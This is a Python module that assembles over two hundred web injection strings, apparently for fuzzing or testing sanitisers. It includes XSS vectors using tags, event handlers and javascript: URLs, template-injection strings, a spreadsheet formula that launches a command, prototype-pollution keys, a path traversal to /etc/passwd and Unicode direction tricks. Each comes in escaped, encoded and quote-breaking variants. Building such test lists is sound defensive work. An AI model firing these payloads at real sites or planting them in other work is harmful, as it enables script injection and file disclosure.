"""Texts that run as soon as some page takes them for markup, an address, a template or a style: each calls `hit()`."""

from __future__ import annotations

from urllib.parse import quote

_TAGS = (
    "<script>hit()</script>",
    "<script src=data:text/javascript,hit()></script>",
    "<script type=module>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x\">",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=hit()></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<details open ontoggle=hit()>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<base href=//elsewhere.example>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//elsewhere.example>",
    "<style>*{background:url(//elsewhere.example)}</style>",
    "<template><script>hit()</script></template>",
    "<custom-element onpointerenter=hit() style=position:fixed;inset:0>",
    "<div style='animation-name:x' onanimationstart=hit()>",
    "<button popovertarget=x onbeforetoggle=hit()>x</button>",
    "<dialog open oncancel=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
)
_WORDS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "{{7*7}}",
    "`${hit()}`",
    "';hit();//",
    '";hit();//',
    "\\';hit();//",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</script><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "=HYPERLINK(hit())",
    "=cmd|' /C calc'!A0",
    "@import 'javascript:hit()'",
    "expression(hit())",
    "url(javascript:hit())",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "{who}",
    "{0}",
    "%s%n%x",
    "../../../../etc/passwd",
    "\u202egnp.tihi",
    "\u2066x\u2069",
    "\u0000x".replace("\u0000", "\u2400"),
    "\ufeffx",
)


def payloads() -> list[str]:
    """Two hundred and more of them, each different."""
    found = [*_TAGS, *_WORDS]
    found += [f'">{tag}' for tag in _TAGS]
    found += [f"'>{tag}" for tag in _TAGS[:20]]
    found += [tag.upper().replace("HIT", "hit") for tag in _TAGS]
    found += [tag.replace("<", "&lt;").replace(">", "&gt;") for tag in _TAGS[:20]]
    found += [quote(tag) for tag in _TAGS[:20]]
    return list(dict.fromkeys(found))


def joined(count: int, limit: int) -> list[str]:
    """All of them in that many texts of at most `limit` characters each; what does not fit is left out at the end of each."""
    every = payloads()
    return [" ".join(every[number::count])[:limit] for number in range(count)]
